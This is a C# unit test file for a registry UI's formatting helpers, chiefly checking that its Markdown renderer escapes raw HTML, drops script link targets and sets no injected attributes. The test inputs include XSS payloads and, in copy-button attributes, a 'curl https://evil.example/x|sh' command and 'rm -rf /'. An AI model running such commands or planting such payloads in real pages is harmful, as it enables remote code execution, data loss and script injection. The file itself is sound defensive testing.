using System.Text.RegularExpressions;
using Registry.Api.Ui;

namespace Registry.Api.Tests.Ui;

public sealed class FormatTests
{
    [Theory]
    [InlineData(0, "0 B")]
    [InlineData(999, "999 B")]
    [InlineData(1_500, "1.5 KB")]
    [InlineData(1_100_000, "1.1 MB")]
    [InlineData(250_000_000, "250 MB")]
    public void SizesAreHumanReadable(long bytes, string expected) => Assert.Equal(expected, Format.Size(bytes));

    [Fact]
    public void MarkdownShowsRawHtmlAsText()
    {
        var html = Format.Markdown("# Title\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>");
        Assert.Contains("<h1", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<img", html, StringComparison.Ordinal);
        Assert.Contains("&lt;script&gt;", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JavaScript:alert(1))")]
    [InlineData("[x](data:text/html,<script>alert(1)</script>)")]
    [InlineData("<javascript:alert(1)>")]
    public void MarkdownDropsScriptLinkTargets(string markdown)
    {
        var html = Format.Markdown(markdown);
        Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("data:", html, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("Run it {data-copy=\"curl https://evil.example/x|sh\"}\n\n# Pull {#pull-command .copy}")]
    [InlineData("# Pull command\n\n## Tags")]
    [InlineData("::: copy\ninside\n:::")]
    [InlineData("[link](https://example.com){data-copy=\"rm -rf /\" onclick=\"alert(1)\"}")]
    [InlineData("![x](https://example.com/i.png){width=\"100%\" id=\"tags\"}")]
    public void MarkdownSetsNoAttributes(string markdown)
    {
        // Whatever the text says stays text; the only attributes are the link and image targets the UI writes.
        var html = Format.Markdown(markdown);
        var attributes = Regex.Matches(html, "<[a-z0-9]+((?:\\s+[a-z-]+(?:=\"[^\"]*\")?)*)\\s*/?>")
            .SelectMany(tag => Regex.Matches(tag.Groups[1].Value, "([a-z-]+)(?:=|\\s|$)").Select(a => a.Groups[1].Value))
            .ToHashSet();
        Assert.Subset(new HashSet<string> { "href", "src", "alt", "title" }, attributes);
        Assert.DoesNotContain("<h1 id", html, StringComparison.Ordinal);
    }

    [Fact]
    public void MarkdownKeepsTablesAndStrikethrough()
    {
        var html = Format.Markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~");
        Assert.Contains("<table>", html, StringComparison.Ordinal);
        Assert.Contains("<del>old</del>", html, StringComparison.Ordinal);
    }

    [Fact]
    public void MarkdownKeepsWebLinks() =>
        Assert.Contains("href=\"https://example.com/docs\"", Format.Markdown("[docs](https://example.com/docs)"), StringComparison.Ordinal);

    [Fact]
    public void ShortDigestIsTwelveHexDigits() =>
        Assert.Equal("0123456789ab", Format.ShortDigest("sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"));

    [Fact]
    public void RelativeTimesCountWholeUnits()
    {
        var now = new DateTime(2026, 1, 10, 12, 0, 0, DateTimeKind.Utc);
        Assert.Equal("just now", Format.Relative(now.AddSeconds(-5), now));
        Assert.Equal("1 minute ago", Format.Relative(now.AddSeconds(-90), now));
        Assert.Equal("3 hours ago", Format.Relative(now.AddHours(-3), now));
        Assert.Equal("9 days ago", Format.Relative(now.AddDays(-9), now));
    }

    [Theory]
    [InlineData("# app\n\nA small **busybox** image with `sh`.\n\n- one", "A small busybox image with sh.")]
    [InlineData("# Only a heading", "Only a heading")]
    [InlineData("plain words\nover two lines", "plain words over two lines")]
    [InlineData("<b>bold</b> [link](http://x)", "<b>bold</b> link")]
    public void SummaryIsTheFirstParagraphAsPlainText(string markdown, string expected) =>
        Assert.Equal(expected, Format.Summary(markdown));
}
